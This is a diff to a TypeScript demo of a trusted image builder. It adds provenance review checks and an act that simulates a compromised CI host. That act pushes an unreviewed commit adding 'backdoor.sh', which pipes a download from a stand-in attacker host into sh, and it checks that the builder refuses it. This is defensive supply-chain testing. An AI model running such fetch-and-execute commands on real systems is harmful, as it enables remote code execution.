@@ -1,16 +1,20 @@
 /**
- * Acts 4 and 5: the trusted builder, seen from outside as its operators and consumers see it.
+ * Acts 5 to 7: the trusted builder, seen from outside as its operators and consumers see it.
  * Its audit log (append-only, hash-chained) says what it decided; the registry and the lookaside
  * hold what it published; skopeo, under the shipped consumer policy, is the judge of the result.
- * The demo never tells the builder anything: the CI's hint sender does, once per gate merge.
+ * The CI's hint sender tells the builder of each merge; the builder reads the review record from
+ * code review with its own account. Then what a compromised CI host could try: a commit pushed
+ * past review plus a correctly signed hint, and a hint for an older commit; both are refused.
  */
 import { execFile } from 'node:child_process';
 import { chmodSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { join, relative } from 'node:path';
 import { promisify } from 'node:util';
+import { signHint } from '../shared/hints/hint-auth.js';
 import { verifyAuditLog } from '../trusted-builder/audit/audit-log.js';
 import { builderPaths } from '../trusted-builder/service.js';
-import { BASE_IMAGE, IMAGE, type DemoLayout } from './demo-root.js';
+import type { CodeReview } from './code-review.js';
+import { BASE_IMAGE, IMAGE, PROJECT, type DemoLayout } from './demo-root.js';
 import type { Merge } from './ci-act.js';
 import type { Story } from './story.js';
 import { consumer, firstErrorLine } from './verify-image.js';
@@ -77,7 +81,7 @@ export async function promotionAct(c: Ctx, merged: Merge[]): Promise<Publication
     const verify = of('verify-passed');
     const tests = of('tests-passed');
     const leak = of('leak-check');
-    if (verify) story.info(`verified: on protected branch ${String(verify.branch)} of its own clone`);
+    if (verify) story.info(`verified: on protected branch ${String(verify.branch)} of its own clone; review read from code review: ${String(verify.review)}`);
     if (tests) story.info(`re-ran the gate jobs itself: ${(tests.jobs as string[]).join(', ')} passed`);
     if (of('image-built')) story.info(`built the image with the network off, no cache, ${BASE_IMAGE} pinned by id`);
     if (leak) story.info(`leak check: ${String(leak.searched)} secrets in use searched for in layers and logs, ${String(leak.leaks)} found`);
@@ -96,6 +100,17 @@ export async function promotionAct(c: Ctx, merged: Merge[]): Promise<Publication
       published.push(p);
     }
   }
+  // The signed provenance says who reviewed what, as code review told the builder.
+  const reviewed = published.map((p) => {
+    const st = JSON.parse(readFileSync(p.provenance, 'utf8')) as { predicate?: { buildDefinition?: { internalParameters?: { review?: { changes?: { number: number; owner: string; submitter?: string; approvals: { by: string; label: string; value: number }[] }[] } } } } };
+    return st.predicate?.buildDefinition?.internalParameters?.review?.changes ?? [];
+  });
+  const named = reviewed.flat();
+  story.check(
+    'each signed provenance names the reviewed changes, their owners, approvers and submitter',
+    published.length > 0 && reviewed.every((r) => r.length > 0) && named.every((ch) => ch.approvals.some((a) => a.label === 'Code-Review' && a.value >= 2 && a.by !== ch.owner)),
+    named.map((ch) => `change ${ch.number} by ${ch.owner}: ${ch.approvals.map((a) => `${a.label} +${a.value} ${a.by}`).join(', ')}; submitted by ${ch.submitter ?? '?'}`).join(' · '),
+  );
   const chain = await verifyAuditLog(paths.audit);
   story.check('the audit log\'s hash chain is intact', chain.ok, chain.ok ? `${chain.records} records, head ${chain.head.slice(0, 12)}` : `line ${chain.line}: ${chain.problem}`);
   // The builder's page: behind its login, the promotions with their steps and digests.
@@ -144,4 +159,44 @@ export async function consumerAct(c: Ctx, image: Publication): Promise<void> {
   }
   const refused = await cons.pull(unsigned).then(() => undefined, (e: unknown) => firstErrorLine(e));
   story.check(`an unsigned image in the same registry (${unsigned}) is refused`, refused !== undefined && /signature/i.test(refused), refused ?? 'it was accepted');
+}
+
+/**
+ * What a compromised CI host could try. The CI holds no credential that writes a branch, so a
+ * commit that reaches master past review stands here for a stolen push right or a rogue admin: it
+ * is pushed straight to master, and a hint for it is signed with the CI's real hint key (which a
+ * compromised CI host does hold). The builder accepts the hint (it is authentic), then asks code
+ * review itself and refuses: no merged change produced that commit. A hint for an older commit,
+ * before what was promoted, is refused as well: no old commit is signed anew.
+ */
+export async function compromisedAct(c: Ctx & { review: CodeReview }): Promise<void> {
+  const { story, layout } = c;
+  const paths = builderPaths(c.layout.builderData);
+  story.begin('a compromised CI host tries to get an image signed', "a commit lands on master past review, and a hint for it is signed with the CI's own hint key");
+  const secret = Buffer.from(readFileSync(join(layout.root, 'ci', 'hint.secret'), 'utf8').trim(), 'utf8');
+  const send = async (commit: string): Promise<number> => {
+    const body = Buffer.from(JSON.stringify({ version: 1, project: PROJECT, branch: 'master', commit, ciRun: 'forged' }));
+    const r = await fetch(`${c.builderUrl}/v1/hints`, { method: 'POST', body, headers: { ...signHint(secret, body, Math.floor(Date.now() / 1000)), 'content-type': 'application/json' }, signal: c.signal });
+    return r.status;
+  };
+  const refusal = (commit: string) =>
+    until(`the builder's decision on ${commit.slice(0, 10)}`, () => {
+      const text = readFileSync(paths.audit, 'utf8');
+      const rec = text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AuditRecord).find((r) => r.commit === commit && ['verify-refused', 'signed', 'promotion-failed'].includes(r.kind));
+      return rec;
+    }, { signal: c.signal, timeoutMs: 60_000, everyMs: 200 });
+
+  const pushed = c.review.gerrit.directPush(PROJECT, 'master', { 'backdoor.sh': '#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n' }, { message: 'greet: faster startup\n', as: 'mallory' });
+  story.info(`pushed straight to master, past review: ${pushed.slice(0, 10)} "greet: faster startup" (adds backdoor.sh)`);
+  const status = await send(pushed);
+  story.info(`a hint for it, signed with the CI's hint key: the builder answers ${status} (the hint is authentic; it is only a trigger)`);
+  const r1 = await refusal(pushed);
+  story.check('the builder refuses it: no review', r1.kind === 'verify-refused' && /no review/.test(String(r1.reason)), String(r1.reason ?? r1.kind));
+
+  const older = c.review.initial;
+  await send(older);
+  const r2 = await refusal(older);
+  story.check(`a hint for an older commit (${older.slice(0, 10)}, before what was promoted) is refused`, r2.kind === 'verify-refused' && r2.step === 'history', String(r2.reason ?? r2.kind));
+  const signedImages = readFileSync(paths.audit, 'utf8').split('\n').filter((l) => l.includes('"kind":"signed"') && (l.includes(pushed) || l.includes(older))).length;
+  story.check('nothing of either was signed or pushed', signedImages === 0);
 }
